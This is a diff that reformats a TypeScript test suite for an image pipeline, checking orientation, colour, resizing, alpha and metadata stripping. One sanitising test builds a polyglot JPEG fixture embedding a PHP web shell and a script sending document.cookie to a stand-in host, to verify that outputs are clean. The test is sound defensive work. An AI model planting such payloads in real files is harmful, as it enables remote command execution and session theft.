@@ -25,7 +25,18 @@ async function expectClean(output: Output): Promise<void> {
   expect(meta.iptc).toBeUndefined()
   expect(metadataContainers(output.data)).toEqual([])
   if (output.format !== 'webp') {
-    const tags = await exifr.parse(output.data, { tiff: true, exif: true, gps: true, xmp: true, iptc: true, icc: true, jfif: false, ihdr: false }).catch(() => undefined)
+    const tags = await exifr
+      .parse(output.data, {
+        tiff: true,
+        exif: true,
+        gps: true,
+        xmp: true,
+        iptc: true,
+        icc: true,
+        jfif: false,
+        ihdr: false,
+      })
+      .catch(() => undefined)
     expect(tags ?? {}).toEqual({})
   }
 }
@@ -36,13 +47,17 @@ describe('orientation: all 8 EXIF orientations come out upright', () => {
     reference = (await small.prepareOriginal(fixture('jpeg-exif-orientation-1-landscape.jpg'))).original.data
   })
 
-  it.each([0, 2, 3, 4, 5, 6, 7, 8])('orientation %i matches orientation 1 pixel for pixel (within JPEG noise)', async (n) => {
-    const name = n === 0 ? 'jpeg-exif-orientation-0-invalid-landscape.jpg' : `jpeg-exif-orientation-${n}-landscape.jpg`
-    const { original, facts } = await small.prepareOriginal(fixture(name))
-    expect({ width: original.width, height: original.height }).toEqual({ width: 360, height: 240 })
-    expect(facts).toMatchObject({ width: 1800, height: 1200 })
-    expect(await meanDiff(original.data, reference)).toBeLessThan(4)
-  })
+  it.each([0, 2, 3, 4, 5, 6, 7, 8])(
+    'orientation %i matches orientation 1 pixel for pixel (within JPEG noise)',
+    async (n) => {
+      const name =
+        n === 0 ? 'jpeg-exif-orientation-0-invalid-landscape.jpg' : `jpeg-exif-orientation-${n}-landscape.jpg`
+      const { original, facts } = await small.prepareOriginal(fixture(name))
+      expect({ width: original.width, height: original.height }).toEqual({ width: 360, height: 240 })
+      expect(facts).toMatchObject({ width: 1800, height: 1200 })
+      expect(await meanDiff(original.data, reference)).toBeLessThan(4)
+    },
+  )
 
   it('the comparison is sensitive: a mirrored image is far from the reference', async () => {
     const mirrored = await sharp(reference).flop().toBuffer()
@@ -62,7 +77,12 @@ describe('colour: every output is 8-bit sRGB without a profile', () => {
     ['avif-photo-icc-exif-xmp.avif', 403, 302],
   ])('%s', async (name, width, height) => {
     const result = await small.process(fixture(name))
-    expect(result.original).toMatchObject({ format: 'jpeg', ext: 'jpg', contentType: 'image/jpeg', width: Math.min(width, Math.round((360 * width) / Math.max(width, height))) })
+    expect(result.original).toMatchObject({
+      format: 'jpeg',
+      ext: 'jpg',
+      contentType: 'image/jpeg',
+      width: Math.min(width, Math.round((360 * width) / Math.max(width, height))),
+    })
     for (const output of result.outputs) await expectClean(output)
     // Three colour channels, also for the grey input.
     expect((await sharp(result.original.data).metadata()).channels).toBe(3)
@@ -97,13 +117,20 @@ describe('sanitising: nothing of the input but its pixels survives', () => {
     const php = Buffer.from('<?php system($_GET[0]);?>')
     const comment = Buffer.from([0xff, 0xfe, 0x00, php.length + 2, ...php])
     const html = Buffer.from('<html><script>fetch("https://evil.example/"+document.cookie)</script></html>')
-    const zip = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(26), Buffer.from('payload.txt'), Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)])
+    const zip = Buffer.concat([
+      Buffer.from('PK\x03\x04', 'latin1'),
+      Buffer.alloc(26),
+      Buffer.from('payload.txt'),
+      Buffer.from('PK\x05\x06', 'latin1'),
+      Buffer.alloc(18),
+    ])
     const polyglot = Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2), html, zip])
     const result = await small.process(polyglot)
     for (const output of result.outputs) {
       await expectClean(output)
       const text = output.data.toString('latin1')
-      for (const needle of ['<html', '<script', 'PK\x03\x04', 'PK\x05\x06', 'payload.txt', '<?php', 'evil.example']) expect(text).not.toContain(needle)
+      for (const needle of ['<html', '<script', 'PK\x03\x04', 'PK\x05\x06', 'payload.txt', '<?php', 'evil.example'])
+        expect(text).not.toContain(needle)
       if (output.format === 'jpeg') expect(output.data.subarray(-2)).toEqual(Buffer.from([0xff, 0xd9]))
     }
   })
@@ -128,17 +155,33 @@ describe('the 12 MP phone photo', () => {
   it('just works: upright, longest side capped at 4000, progressive JPEG', async () => {
     expect(result.facts).toMatchObject({ width: 3024, height: 4032, orientation: 6 })
     expect(result.original).toMatchObject({ variant: 'original', format: 'jpeg', width: 3000, height: 4000 })
-    expect(await sharp(result.original.data).metadata()).toMatchObject({ isProgressive: true, chromaSubsampling: '4:2:0' })
+    expect(await sharp(result.original.data).metadata()).toMatchObject({
+      isProgressive: true,
+      chromaSubsampling: '4:2:0',
+    })
   })
 
   it('writes every variant in JPEG and WebP, fit inside, aspect kept', () => {
-    expect(names(result.outputs)).toEqual(['original.jpg', 'original.webp', 'thumbnail.jpg', 'thumbnail.webp', 'medium.jpg', 'medium.webp', 'large.jpg', 'large.webp'])
+    expect(names(result.outputs)).toEqual([
+      'original.jpg',
+      'original.webp',
+      'thumbnail.jpg',
+      'thumbnail.webp',
+      'medium.jpg',
+      'medium.webp',
+      'large.jpg',
+      'large.webp',
+    ])
     const dims = Object.fromEntries(result.outputs.map((o) => [`${o.variant}.${o.ext}`, `${o.width}x${o.height}`]))
     expect(dims).toEqual({
-      'original.jpg': '3000x4000', 'original.webp': '3000x4000',
-      'thumbnail.jpg': '225x300', 'thumbnail.webp': '225x300',
-      'medium.jpg': '600x800', 'medium.webp': '600x800',
-      'large.jpg': '900x1200', 'large.webp': '900x1200',
+      'original.jpg': '3000x4000',
+      'original.webp': '3000x4000',
+      'thumbnail.jpg': '225x300',
+      'thumbnail.webp': '225x300',
+      'medium.jpg': '600x800',
+      'medium.webp': '600x800',
+      'large.jpg': '900x1200',
+      'large.webp': '900x1200',
     })
   })
 
@@ -166,51 +209,87 @@ describe('variants and output sizes, exactly at and one over', () => {
   it('a variant is never enlarged: input at its size stays, one over is reduced to it', async () => {
     const pipeline = createImagePipeline({ variants: [{ name: 'thumbnail', size: 50, square: false }] })
     const at = await pipeline.process(await solidPng(50, 30))
-    expect(at.outputs.filter((o) => o.variant === 'thumbnail').map((o) => `${o.width}x${o.height}`)).toEqual(['50x30', '50x30'])
+    expect(at.outputs.filter((o) => o.variant === 'thumbnail').map((o) => `${o.width}x${o.height}`)).toEqual([
+      '50x30',
+      '50x30',
+    ])
     const over = await pipeline.process(await solidPng(51, 30))
-    expect(over.outputs.filter((o) => o.variant === 'thumbnail').map((o) => `${o.width}x${o.height}`)).toEqual(['50x29', '50x29'])
+    expect(over.outputs.filter((o) => o.variant === 'thumbnail').map((o) => `${o.width}x${o.height}`)).toEqual([
+      '50x29',
+      '50x29',
+    ])
     const tiny = await pipeline.process(await solidPng(20, 10))
-    expect(tiny.outputs.filter((o) => o.variant === 'thumbnail').map((o) => `${o.width}x${o.height}`)).toEqual(['20x10', '20x10'])
+    expect(tiny.outputs.filter((o) => o.variant === 'thumbnail').map((o) => `${o.width}x${o.height}`)).toEqual([
+      '20x10',
+      '20x10',
+    ])
   })
 
   it('square variants are cover crops (attention), never enlarged', async () => {
-    const pipeline = createImagePipeline({ variants: [{ name: 'thumbnail', size: 300, square: true }, { name: 'large', size: 1200, square: false }] })
+    const pipeline = createImagePipeline({
+      variants: [
+        { name: 'thumbnail', size: 300, square: true },
+        { name: 'large', size: 1200, square: false },
+      ],
+    })
     const result = await pipeline.process(fixture('jpeg-exif-orientation-3-landscape.jpg'))
     const dims = result.outputs.map((o) => `${o.variant}:${o.width}x${o.height}`)
     expect(dims).toContain('thumbnail:300x300')
     expect(dims).toContain('large:1200x800')
     const small1 = await pipeline.process(await solidPng(120, 80))
-    expect(small1.outputs.filter((o) => o.variant === 'thumbnail').map((o) => `${o.width}x${o.height}`)).toEqual(['80x80', '80x80'])
+    expect(small1.outputs.filter((o) => o.variant === 'thumbnail').map((o) => `${o.width}x${o.height}`)).toEqual([
+      '80x80',
+      '80x80',
+    ])
   })
 
   it('AVIF copies when enabled; no WebP when disabled', async () => {
     const avif = createImagePipeline({ avif: true, variants: [{ name: 'thumbnail', size: 64, square: false }] })
     const result = await avif.process(fixture('gif-static.gif'))
-    expect(names(result.outputs)).toEqual(['original.jpg', 'original.webp', 'original.avif', 'thumbnail.jpg', 'thumbnail.webp', 'thumbnail.avif'])
+    expect(names(result.outputs)).toEqual([
+      'original.jpg',
+      'original.webp',
+      'original.avif',
+      'thumbnail.jpg',
+      'thumbnail.webp',
+      'thumbnail.avif',
+    ])
     for (const output of result.outputs) await expectClean(output)
     const noWebp = createImagePipeline({ webp: false })
-    expect(names((await noWebp.process(fixture('gif-static.gif'))).outputs)).toEqual(['original.jpg', 'thumbnail.jpg', 'medium.jpg', 'large.jpg'])
+    expect(names((await noWebp.process(fixture('gif-static.gif'))).outputs)).toEqual([
+      'original.jpg',
+      'thumbnail.jpg',
+      'medium.jpg',
+      'large.jpg',
+    ])
   })
 })
 
 describe('transparency and animation', () => {
-  it.each(['png-rgba-alpha.png', 'webp-lossless-alpha.webp', 'webp-lossy-alpha.webp', 'png-interlaced-adam7-rgba.png'])('%s keeps its alpha in PNG and WebP outputs', async (name) => {
-    const result = await images.process(fixture(name))
-    expect(result.hasAlpha).toBe(true)
-    expect(result.original).toMatchObject({ format: 'png', ext: 'png', contentType: 'image/png' })
-    expect(new Set(result.outputs.map((o) => o.format))).toEqual(new Set(['png', 'webp']))
-    for (const output of result.outputs) {
-      await expectClean(output)
-      const { data, info } = await sharp(output.data).raw().toBuffer({ resolveWithObject: true })
-      expect(info.channels).toBe(4)
-      let transparent = 0
-      for (let i = 3; i < data.length; i += 4) if ((data[i] as number) < 128) transparent++
-      expect(transparent / (data.length / 4)).toBeGreaterThan(0.05)
-    }
-  })
+  it.each(['png-rgba-alpha.png', 'webp-lossless-alpha.webp', 'webp-lossy-alpha.webp', 'png-interlaced-adam7-rgba.png'])(
+    '%s keeps its alpha in PNG and WebP outputs',
+    async (name) => {
+      const result = await images.process(fixture(name))
+      expect(result.hasAlpha).toBe(true)
+      expect(result.original).toMatchObject({ format: 'png', ext: 'png', contentType: 'image/png' })
+      expect(new Set(result.outputs.map((o) => o.format))).toEqual(new Set(['png', 'webp']))
+      for (const output of result.outputs) {
+        await expectClean(output)
+        const { data, info } = await sharp(output.data).raw().toBuffer({ resolveWithObject: true })
+        expect(info.channels).toBe(4)
+        let transparent = 0
+        for (let i = 3; i < data.length; i += 4) if ((data[i] as number) < 128) transparent++
+        expect(transparent / (data.length / 4)).toBeGreaterThan(0.05)
+      }
+    },
+  )
 
   it('drops an alpha channel that is fully opaque (stored as JPEG)', async () => {
-    const opaque = await sharp({ create: { width: 40, height: 30, channels: 4, background: { r: 10, g: 200, b: 30, alpha: 1 } } }).png().toBuffer()
+    const opaque = await sharp({
+      create: { width: 40, height: 30, channels: 4, background: { r: 10, g: 200, b: 30, alpha: 1 } },
+    })
+      .png()
+      .toBuffer()
     const result = await images.process(opaque)
     expect(result.hasAlpha).toBe(false)
     expect(result.original.format).toBe('jpeg')
@@ -249,7 +328,10 @@ describe('broken data found while decoding', () => {
   })
 
   it('process refuses a PDF (documents are stored as validated)', async () => {
-    await expectCode(images.process(fixture('docs/pdf-1-page-libreoffice.pdf'), { purpose: 'document' }), 'UNSUPPORTED_TYPE')
+    await expectCode(
+      images.process(fixture('docs/pdf-1-page-libreoffice.pdf'), { purpose: 'document' }),
+      'UNSUPPORTED_TYPE',
+    )
   })
 
   it('an aborted signal stops with ABORTED', async () => {
@@ -273,10 +355,16 @@ describe('purposes and the split upload path', () => {
     for (const output of doc.outputs) await expectClean(output)
     // The upload path keeps full chroma from the sanitised original on.
     const sanitised = await images.prepareOriginal(input, { purpose: 'document' })
-    expect(await sharp(sanitised.original.data).metadata()).toMatchObject({ chromaSubsampling: '4:4:4', isProgressive: false })
+    expect(await sharp(sanitised.original.data).metadata()).toMatchObject({
+      chromaSubsampling: '4:4:4',
+      isProgressive: false,
+    })
     const rendered = await images.renderVariants(sanitised.original.data, { purpose: 'document' })
     expect(names(rendered)).toEqual(['original.jpg', 'thumbnail.jpg'])
-    expect(await sharp((rendered[0] as Output).data).metadata()).toMatchObject({ chromaSubsampling: '4:4:4', isProgressive: true })
+    expect(await sharp((rendered[0] as Output).data).metadata()).toMatchObject({
+      chromaSubsampling: '4:4:4',
+      isProgressive: true,
+    })
   })
 
   it('prepareOriginal stores a sanitised original; renderVariants turns it into the same set of outputs as process, deterministically', async () => {
@@ -284,15 +372,26 @@ describe('purposes and the split upload path', () => {
     const prepared = await images.prepareOriginal(input)
     const processed = await images.process(input)
     // The synchronous original: upright, same size, clean, a cheap sequential quality-100 JPEG.
-    expect(prepared.original).toMatchObject({ variant: 'original', format: 'jpeg', ext: 'jpg', width: processed.original.width, height: processed.original.height })
-    expect(await sharp(prepared.original.data).metadata()).toMatchObject({ isProgressive: false, chromaSubsampling: '4:2:0' })
+    expect(prepared.original).toMatchObject({
+      variant: 'original',
+      format: 'jpeg',
+      ext: 'jpg',
+      width: processed.original.width,
+      height: processed.original.height,
+    })
+    expect(await sharp(prepared.original.data).metadata()).toMatchObject({
+      isProgressive: false,
+      chromaSubsampling: '4:2:0',
+    })
     await expectClean(prepared.original)
     expect(await meanDiff(prepared.original.data, processed.original.data)).toBeLessThan(2)
 
     const first = await images.renderVariants(prepared.original.data)
     const second = await images.renderVariants(prepared.original.data)
     expect(first.map((o) => o.data.equals((second[first.indexOf(o)] as Output).data))).toEqual(first.map(() => true))
-    expect(first.map((o) => `${o.variant}.${o.ext}:${o.width}x${o.height}`)).toEqual(processed.outputs.map((o) => `${o.variant}.${o.ext}:${o.width}x${o.height}`))
+    expect(first.map((o) => `${o.variant}.${o.ext}:${o.width}x${o.height}`)).toEqual(
+      processed.outputs.map((o) => `${o.variant}.${o.ext}:${o.width}x${o.height}`),
+    )
     // The optimised original from the sanitised one: progressive, 4:2:0, and within a few per cent
     // of the bytes of the one rendered from the upload itself.
     const optimised = first[0] as Output
@@ -324,7 +423,12 @@ describe('purposes and the split upload path', () => {
     expect(prepared.original).toMatchObject({ format: 'png', ext: 'png' })
     expect(prepared.hasAlpha).toBe(true)
     const [optimised] = await images.renderVariants(prepared.original.data)
-    expect(optimised).toMatchObject({ variant: 'original', format: 'png', width: prepared.original.width, height: prepared.original.height })
+    expect(optimised).toMatchObject({
+      variant: 'original',
+      format: 'png',
+      width: prepared.original.width,
+      height: prepared.original.height,
+    })
     expect((optimised as Output).size).toBeLessThan(prepared.original.size)
     const pixels = async (data: Buffer) => sharp(data).ensureAlpha().raw().toBuffer()
     expect((await pixels((optimised as Output).data)).equals(await pixels(prepared.original.data))).toBe(true)
